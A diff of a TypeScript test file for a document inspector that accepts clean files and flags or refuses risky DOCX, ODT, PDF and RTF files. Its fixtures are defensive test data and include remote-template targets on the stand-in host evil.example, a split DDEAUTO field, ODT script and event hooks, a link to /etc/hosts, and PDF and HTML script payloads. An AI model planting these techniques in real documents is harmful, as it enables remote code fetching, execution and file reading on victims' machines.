@@ -1,12 +1,28 @@
+import { readFileSync } from 'node:fs'
 import { describe, expect, it } from '@jest/globals'
 import fc from 'fast-check'
 import { strToU8, zipSync } from 'fflate'
 import { docx, odt } from '../../../test/setup/documents.ts'
 import { inspectFile } from './inspect-file.ts'
 
+const fixture = (name: string) =>
+  readFileSync(new URL(`../../../test/data/fixtures/documents/${name}`, import.meta.url))
+
 const text = (content: string) => inspectFile(Buffer.from(content))
 const told = (inspection: ReturnType<typeof inspectFile>) =>
   'kind' in inspection ? `${inspection.verdict} ${inspection.kind}` : inspection.verdict
+
+const withTemplate = (target: string) =>
+  docx(['x'], {
+    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+  })
+
+const WEB_DOCX = Buffer.from(
+  zipSync({
+    '[Content_Types].xml': strToU8('<Types>wordprocessingml.document.main+xml</Types>'),
+    'word/document2.xml': strToU8('<w:document/>'),
+  }),
+)
 
 const PNG = Buffer.from('89504e470d0a1a0a', 'hex')
 
@@ -18,7 +34,22 @@ describe('inspectFile', () => {
     ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF'), 'fine pdf'],
     ['a text', Buffer.from('﻿Ring the bell, O’Brien.\n\tمرحبا 😀'), 'fine txt'],
     ['a PNG', PNG, 'fine png'],
+    ['a DOCX of Word on the web', WEB_DOCX, 'fine docx'],
+    ...[
+      'file:///C:\\Users\\Ada\\Templates\\Normal.dotm',
+      'C:\\Templates\\Normal.dotm',
+      'file:///Users/ada/Normal.dotm',
+      'Normal.dotm',
+      'Macintosh%20HD:Users:ada:Normal.dotm',
+      'Templates%20of%20mine/Normal.dotm',
+    ].map((target) => [`a DOCX begun with ${target}`, withTemplate(target), 'fine docx'] as const),
     ['a DOCX with a chart', docx(['x'], { 'word/embeddings/chart.xlsx': 'PK' }), 'fine docx'],
+    [
+      'a PDF in whose pictures three letters happen to stand',
+      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Length 9 >>\nstream\n\u0001/JS (\u0002\nendstream'),
+      'fine pdf',
+    ],
+    ['a text in an older set of letters', Buffer.from([0xc7, 0x61, 0xfd]), 'fine txt'],
   ])('takes %s', (_name, bytes, verdict) => {
     expect(told(inspectFile(bytes))).toBe(verdict)
   })
@@ -26,15 +57,20 @@ describe('inspectFile', () => {
   it.each([
     ['macros in a DOCX', docx(['x'], { 'word/vbaProject.bin': 'x' }), 'doubtful docx'],
     ['macros in an ODT', odt({ 'Basic/Standard/script-lb.xml': '<a/>' }), 'doubtful odt'],
+    ['macros that LibreOffice wrote into an ODT', fixture('macros.odt'), 'doubtful odt'],
     ['an OLE object', docx(['x'], { 'word/embeddings/oleObject1.bin': 'x' }), 'doubtful docx'],
-    [
-      'a template from elsewhere',
-      docx(['x'], {
-        'word/_rels/settings.xml.rels':
-          '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
-      }),
-      'doubtful docx',
-    ],
+    ...[
+      'http://evil.example/t.dotm',
+      'HTTPS://evil.example/t.dotm',
+      'ftp://evil.example/t.dotm',
+      '\\\\evil.example\\share\\t.dotm',
+      '//evil.example/share/t.dotm',
+      'file://evil.example/share/t.dotm',
+      'file:///\\\\evil.example\\share\\t.dotm',
+      'file://///evil.example/share/t.dotm',
+    ].map(
+      (target) => [`a template from ${target}`, withTemplate(target), 'doubtful docx'] as const,
+    ),
     [
       'a script in a PDF',
       Buffer.from('%PDF-1.7 << /S /JavaScript /JS (app.alert(1)) >>'),
@@ -51,6 +87,32 @@ describe('inspectFile', () => {
       Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}'),
       'doubtful rtf',
     ],
+    ['a script in packed objects of a PDF', fixture('packed-script.pdf'), 'doubtful pdf'],
+    [
+      'a PDF whose packed objects cannot be unpacked',
+      Buffer.from('%PDF-1.7\n1 0 obj\n<</Type /ObjStm /Filter /LZWDecode>>\nstream\nx\nendstream'),
+      'doubtful pdf',
+    ],
+    [
+      'a field of a DOCX, in pieces, that asks another program',
+      docx(['x'], {
+        'word/footer1.xml':
+          '<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:p>',
+      }),
+      'doubtful docx',
+    ],
+    ...[
+      '<office:script script:language="ooo:Basic"/>',
+      '<script:event-listener script:event-name="dom:load"/>',
+      '<text:a xlink:href="vnd.sun.star.script:x?language=Python"/>',
+      '<text:section-source xlink:type="simple" xlink:href="file:///etc/hosts"/>',
+      '<text:dde-connection-decl office:dde-application="soffice"/>',
+      '<draw:applet xlink:href="x"/>',
+    ].map(
+      (act) =>
+        [`an ODT with ${act}`, odt({ 'content.xml': `<a>${act}</a>` }), 'doubtful odt'] as const,
+    ),
+    ['an object in an ODT', odt({ 'Object 1/content.xml': '<a/>' }), 'doubtful odt'],
     [
       'a PDF that is an archive too',
       Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(zipSync({ a: strToU8('b') }))]),
@@ -82,7 +144,10 @@ describe('inspectFile', () => {
     ],
     ['an archive with something after it', Buffer.concat([docx(['x']), Buffer.from('<script>')])],
     ['half an archive', docx(['x']).subarray(0, 200)],
-    ['UTF-16', Buffer.from('\ufeffhello', 'utf16le')],
+    ['UTF-16 that does not say so', Buffer.from('hello', 'utf16le')],
+    ['a page in UTF-16', Buffer.from('\ufeff<script>alert(1)</script>', 'utf16le')],
+    ['a document of an older Word', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
+    ['an ODT with a password', odt({ 'META-INF/manifest.xml': '<m:encryption-data/>' })],
   ])('refuses %s', (_name, bytes) => {
     expect(told(inspectFile(bytes))).toBe('refused')
   })
